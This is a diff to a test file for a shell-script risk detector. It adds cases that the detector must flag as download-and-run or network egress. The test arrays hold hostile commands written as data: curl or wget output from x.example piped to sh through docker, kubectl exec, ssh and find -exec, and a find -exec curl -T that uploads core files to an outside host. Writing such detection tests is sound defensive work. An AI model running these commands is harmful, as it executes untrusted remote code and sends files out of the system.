@@ -28,6 +28,10 @@ describe('a download that is run is found', () => {
     'wget https://x.example/i.sh; sh ./i.sh',
     'curl https://x.example/i.sh > i; timeout 5 bash i',
     'f() { curl https://x.example/i.sh | sh; }; f',
+    'docker run --rm alpine sh -c "wget -qO- https://x.example/i.sh | sh"',
+    "kubectl exec web -- bash -c 'curl https://x.example/i.sh | bash'",
+    "ssh host.example 'curl https://x.example/i.sh | sh'",
+    'find . -name x -exec sh -c "curl https://x.example/i.sh | sh" \\;',
   ])('%s', (script) => {
     expect(judgeScript(script)).toContainEqual(['download-and-run', 'critical']);
   });
@@ -59,6 +63,7 @@ describe('calls to the network', () => {
     'find . -name "*.log" | xargs -n 1 curl -T',
     'echo "$(dig +short x.example)"',
     'rsync -a ./ backup@host.example:/srv',
+    'find . -name core -exec curl -T {} https://x.example \\;',
   ])('are found in %s', (script) => {
     expect(judgeScript(script)).toContainEqual(['network-egress', 'high']);
   });
